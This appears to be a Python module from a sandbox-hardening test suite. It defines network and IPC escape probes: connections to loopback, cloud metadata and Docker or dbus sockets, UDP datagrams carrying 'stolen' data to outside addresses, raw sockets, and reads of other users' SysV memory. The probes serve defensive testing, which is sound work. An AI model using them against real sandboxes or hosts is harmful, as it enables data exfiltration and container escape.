"""Talking to anybody: the machine, the network, other processes' sockets and queues."""

from __future__ import annotations

from .attack import Attack

_ASK = """
import socket
def ask(family, kind, address):
    client = socket.socket(family, kind)
    client.settimeout(0.5)
    client.connect(address)
    client.send(b"hello")
    data = client.recv(100)
    return canary_in(data) or "ESCAPED: talked to %r" % (address,)
"""

ATTACKS = (
    Attack(
        "loopback",
        "Connects to a service on the machine's loopback address.",
        """
import socket
def ask(family, kind, address):
    client = socket.socket(family, kind)
    client.settimeout(0.5)
    client.connect(address)
    client.send(b"hello")
    data = client.recv(100)
    return canary_in(data) or "ESCAPED: talked to %r" % (address,)
def attack():
    return ask(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@))
""",
        teeth=True,
    ),
    Attack(
        "loopback-6",
        "Connects to it by IPv6 and by every address of the machine.",
        _ASK
        + """
def attack():
    hosts = ["172.17.0.1", "10.0.2.2", "192.168.0.1", "0.0.0.0", "127.0.1.1", socket.gethostname()]
    return first([lambda: ask(socket.AF_INET6, socket.SOCK_STREAM, ("::1", @PORT@))]
                 + [lambda h=h: ask(socket.AF_INET, socket.SOCK_STREAM, (h, @PORT@)) for h in hosts])
""",
        calls=2,
    ),
    Attack(
        "datagram",
        "Sends a datagram, which Landlock does not stop.",
        """
import socket
def ask(family, kind, address):
    client = socket.socket(family, kind)
    client.settimeout(0.5)
    client.connect(address)
    client.send(b"hello")
    data = client.recv(100)
    return canary_in(data) or "ESCAPED: talked to %r" % (address,)
def attack():
    return ask(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @UDP@))
""",
        teeth=True,
    ),
    Attack(
        "datagram-without-answer",
        "Sends datagrams out without waiting for an answer: enough to carry a secret away.",
        """
import socket
def attack():
    def send(host):
        sent = socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", (host, @UDP@))
        return sent and "ESCAPED: sent"
    return first([lambda: send("127.0.0.1"), lambda: send("192.0.2.1"), lambda: send("224.0.0.1")])
""",
        teeth=True,
    ),
    Attack(
        "outside",
        "Connects to the internet and to the metadata service of clouds, and asks for names.",
        _ASK
        + """
def attack():
    return first([lambda: ask(socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80)),
                  lambda: ask(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
                  lambda: socket.getaddrinfo("example.com", 80) and "ESCAPED: resolved a name"])
""",
        calls=2,
        short=True,
    ),
    Attack(
        "unix-socket",
        "Connects to a unix socket by its path.",
        """
import socket
def ask(family, kind, address):
    client = socket.socket(family, kind)
    client.settimeout(0.5)
    client.connect(address)
    client.send(b"hello")
    data = client.recv(100)
    return canary_in(data) or "ESCAPED: talked to %r" % (address,)
def attack():
    return ask(socket.AF_UNIX, socket.SOCK_STREAM, "@UNIX@")
""",
        teeth=True,
    ),
    Attack(
        "abstract-socket",
        "Connects to a unix socket in the abstract namespace, which no file permission guards.",
        """
import socket
def ask(family, kind, address):
    client = socket.socket(family, kind)
    client.settimeout(0.5)
    client.connect(address)
    client.send(b"hello")
    data = client.recv(100)
    return canary_in(data) or "ESCAPED: talked to %r" % (address,)
def attack():
    return ask(socket.AF_UNIX, socket.SOCK_STREAM, "\\0@ABSTRACT@")
""",
        teeth=True,
    ),
    Attack(
        "engine-socket",
        "Asks the Docker engine, the container runtime or the message bus for help.",
        _ASK
        + """
def attack():
    paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
             "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/udev/control"]
    return first([lambda p=p: ask(socket.AF_UNIX, socket.SOCK_STREAM, p) for p in paths])
""",
    ),
    Attack(
        "listen",
        "Listens on a port of every address, for somebody outside to connect.",
        """
import socket
def attack():
    return first([lambda: socket.create_server(("0.0.0.0", 38991)) and "ESCAPED: listens",
                  lambda: socket.create_server(("127.0.0.1", 0)) and "ESCAPED: listens on loopback"])
""",
    ),
    Attack(
        "raw-and-packet-sockets",
        "Opens sockets of other kinds: raw, packet, netlink, vsock, crypto, bluetooth, transparent inter-process.",
        """
import socket
def attack():
    kinds = [(2, 3, 1), (2, 3, 255), (10, 3, 58), (17, 3, 0x300), (16, 3, 0), (40, 1, 0), (38, 5, 0), (31, 3, 1), (30, 1, 0),
             (29, 3, 1), (44, 3, 0), (15, 3, 2)]
    return first([lambda k=k: socket.socket(*k) and f"ESCAPED: socket {k}" for k in kinds])
""",
    ),
    Attack(
        "sysv-of-the-machine",
        "Reads SysV segments and queues of other users of the machine, by key and by number.",
        """
libc.shmat.restype = ctypes.c_void_p
class Message(ctypes.Structure):
    _fields_ = [("kind", ctypes.c_long), ("text", ctypes.c_char * 64)]
def attack():
    def attach(identifier):
        address = libc.shmat(identifier, None, 0o10000)
        if identifier < 0 or address in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), "shmat")
        return canary_in(ctypes.string_at(address, 64)) or "ESCAPED: attached"
    def receive(identifier):
        message = Message()
        if identifier < 0 or libc.msgrcv(identifier, ctypes.byref(message), 64, 0, 0o4000) < 0:
            raise OSError(ctypes.get_errno(), "msgrcv")
        return canary_in(message.text)
    by_number = [lambda i=i: attach(libc.shmctl(i, 13, ctypes.create_string_buffer(256))) for i in range(4)]
    return first([lambda: attach(libc.shmget(@SHMKEY@, 0, 0o444)), lambda: receive(libc.msgget(@MSGKEY@, 0o444)), *by_number])
""",
        teeth=True,
    ),
    Attack(
        "inherited-sockets",
        "Reads and writes every descriptor that it was born with, looking for somebody else's text.",
        """
import fcntl
def attack():
    def look(fd):
        flags = fcntl.fcntl(fd, fcntl.F_GETFL)
        if os.isatty(fd):
            return "ESCAPED: a terminal"
        fcntl.fcntl(fd, fcntl.F_SETFL, flags | os.O_NONBLOCK)
        return canary_in(os.read(fd, 1 << 16))
    return first([lambda fd=fd: look(fd) for fd in range(64)])
""",
        beside="""
SOLUTION = "@PREVIOUS@"
def solve(n):
    time.sleep(0.2)
    return len(SOLUTION)
""",
        calls=2,
    ),
    Attack(
        "browser-of-the-library",
        "Fetches with every client of the standard library.",
        """
import ftplib, http.client, poplib, smtplib, urllib.request
def attack():
    return first([lambda: canary_in(urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=0.5).read()),
                  lambda: http.client.HTTPConnection("127.0.0.1", @PORT@, timeout=0.5).connect() or "ESCAPED: http",
                  lambda: ftplib.FTP().connect("127.0.0.1", @PORT@, 0.5) and "ESCAPED: ftp"])
""",
        calls=2,
        teeth=True,
    ),
)
